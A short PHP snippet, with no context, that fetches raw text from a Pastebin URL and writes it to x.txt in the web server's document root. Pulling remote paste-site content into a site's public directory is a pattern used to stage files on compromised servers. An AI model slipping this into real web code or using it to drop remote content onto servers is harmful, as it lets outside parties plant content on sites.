<?php
$t = file_get_contents("https://pastebin.com/raw/aaaaaaaa");
file_put_contents($_SERVER["DOCUMENT_ROOT"]."/x.txt", $t);
